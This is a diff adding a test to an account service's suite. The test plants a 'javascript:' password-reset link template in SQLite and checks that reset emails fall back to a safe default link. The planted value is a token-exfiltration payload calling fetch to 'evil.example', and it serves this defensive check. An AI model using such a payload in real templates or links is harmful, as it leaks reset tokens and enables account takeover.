@@ -7,6 +7,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import json
+import sqlite3
 import uuid
 from email.header import decode_header, make_header
 
@@ -232,3 +233,27 @@ def test_production_link_templates_are_https_only():
     for bad in HOSTILE_TEMPLATES:
         with pytest.raises(ValueError):
             normalize_url_template(bad)
+
+
+async def test_a_stored_template_that_is_not_a_web_link_is_never_mailed(hub, client, mailbox):
+    """Templates stored before they were checked (written here straight into SQLite) fall
+    back to the default link instead of mailing `javascript:`."""
+    if hub.database_url is not None:
+        pytest.skip("written straight into the SQLite file")
+    product = create_product(hub)
+    with sqlite3.connect(hub.workdir / "hub.db", timeout=15) as db:
+        db.execute(
+            "UPDATE products SET reset_url_template = ? WHERE slug = ?",
+            ("javascript:fetch('//evil.example/'+'{token}')", product["slug"]),
+        )
+    address = f"stored-{uuid.uuid4().hex[:10]}@example.com"
+    await register(client, address, product=product["slug"])
+    forgot = await client.post(
+        "/api/v1/auth/forgot_password",
+        headers={"X-Product-Slug": product["slug"]},
+        json={"email": address},
+    )
+    assert forgot.status_code == 202
+    [mail] = await mailbox.wait_for(address, 1, kind="password_reset")
+    body = mail_body(mail)
+    assert "javascript:" not in body and f"{hub.url}/demo/#reset_token=" in body
